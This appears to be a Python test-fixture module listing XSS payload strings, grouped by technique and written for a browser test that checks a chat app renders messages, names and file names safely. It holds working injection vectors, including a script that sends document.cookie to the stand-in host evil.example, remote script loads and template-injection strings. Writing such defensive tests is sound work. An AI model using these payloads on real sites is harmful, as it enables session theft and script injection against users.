"""Hostile strings for the browser test (test_xss_browser.py): each, if it ever ran or loaded, would open a
dialog (alert/confirm/prompt) or ask another origin (evil.example) for something, which the test catches.

Grouped by trick; every group is used as message text, and some as sender, chat and file names.
"""

EVIL = "http://evil.example"

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert('XSS')</SCRIPT>",
    "<script src=http://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*</script><script>*/alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script type=module>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>fetch('http://evil.example/steal?c='+document.cookie)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"confirm(1)\">",
    "<img/src/onerror=prompt(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">悬停</div>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>滚动</marquee>",
    "<iframe onload=alert(1)></iframe>",
    "<object data=x onerror=alert(1)></object>",
    "<body onpageshow=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<style onload=alert(1)></style>",
]

URL_SCHEMES = [
    "<a href=\"javascript:alert(1)\">点我</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">点我</a>",
    "<a href=\"java\tscript:alert(1)\">点我</a>",
    "<a href=\"&#106;avascript:alert(1)\">点我</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">点我</a>",
    "<a href=\"vbscript:msgbox(1)\">点我</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=\"javascript:alert(1)\"><button>提交</button></form>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
    "<base href=\"http://evil.example/\">",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<img src=http://evil.example/pixel.png>",
    "<img srcset=\"http://evil.example/a.png 1x\">",
    "<video poster=http://evil.example/p.png></video>",
    "javascript:alert(1)",
    "http://evil.example/\"onmouseover=\"alert(1)",
    "https://example.com/?q=<script>alert(1)</script>",
    "http://example.com/#\"><img src=x onerror=alert(1)>",
]

SVG_MATHML = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>点我</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">CLICKME</math>",
    "<svg/onload=alert`1`>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
]

MARKDOWN = [
    "[点我](javascript:alert(1))",
    "[点我](JAVASCRIPT:alert(1))",
    "[点我](javascript&#58;alert(1))",
    "[点我](&#x6A;avascript:alert(1))",
    "[点我](java\u0000script:alert(1))",
    "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[点我](vbscript:msgbox(1))",
    "[点我]( javascript:alert(1) )",
    "[点我](<javascript:alert(1)>)",
    "[a][x]\n\n[x]: javascript:alert(1)",
    "[a][x]\n\n[x]: http://evil.example/ \"title\"",
    "![图](http://evil.example/track.png)",
    "![图](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](x.png)",
    "[![图](http://evil.example/a.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<http://evil.example/\"><script>alert(1)</script>>",
    "[点我](http://example.com\"onmouseover=\"alert(1))",
    "[点我](\"onmouseover=\"alert(1))",
    "```\n</code><script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "**<img src=x onerror=alert(1)>**",
    "> <script>alert(1)</script>",
    "* [列表](javascript:alert(1))",
    "[点我](#\" onclick=\"alert(1))",
    "<div markdown=1>[点我](javascript:alert(1))</div>",
    "[点我](//evil.example/x)",
]

UNICODE_ENTITY = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "<img src=x onerror=\u0061lert(1)>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">点我</a>",
    "\u003cimg src=x onerror=alert(1)\u003e",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "\";alert(1);//",
    "';alert(1);//",
    "</script><script>alert(1)</script><!--",
    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<!--<script>alert(1)//-->",
    "\x00<script>alert(1)</script>",
]

BROKEN_TAGS = [
    "<img src=x onerror=alert(1)",
    "<svg onload=alert(1)//",
    "<a href=javascript:alert(1)>点我",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<iframe/src=\"javascript:alert(1)\">",
    "<a\nhref\n=\njavascript:alert(1)>点我</a>",
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1)//<",
    "<x onclick=alert(1)>点我",
    "<! foo=\"><script>alert(1)</script>\">",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<table background=\"javascript:alert(1)\">",
    "<a href=\"javascript&colon;alert(1)\">点我</a>",
]

VECTORS = SCRIPT_TAGS + EVENT_HANDLERS + URL_SCHEMES + SVG_MATHML + MARKDOWN + UNICODE_ENTITY + BROKEN_TAGS
# Shorter ones, that fit in a name: sender names, chat names, file names.
NAME_VECTORS = [v for v in VECTORS if "\n" not in v and len(v) <= 60]
